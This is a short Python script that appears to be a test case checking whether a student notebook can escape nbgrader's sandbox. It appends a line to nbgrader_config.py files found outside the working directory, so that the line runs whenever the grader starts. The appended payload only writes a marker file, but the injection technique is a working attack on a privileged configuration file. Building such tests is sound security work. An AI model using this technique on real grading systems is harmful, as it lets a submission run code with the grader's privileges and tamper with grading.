# Appends code to the course's nbgrader_config.py, which nbgrader runs at every start.
# aim: harm
# %% first
import glob

for path in glob.glob("@OUTSIDE@/*/nbgrader_config.py") + glob.glob("../../../nbgrader_config.py"):
    try:
        open(path, "a").write("\nopen('@OUTSIDE@/ran_as_nbgrader.txt', 'w').write('x')\n")
        print("changed", path)
    except OSError as error:
        print(error)
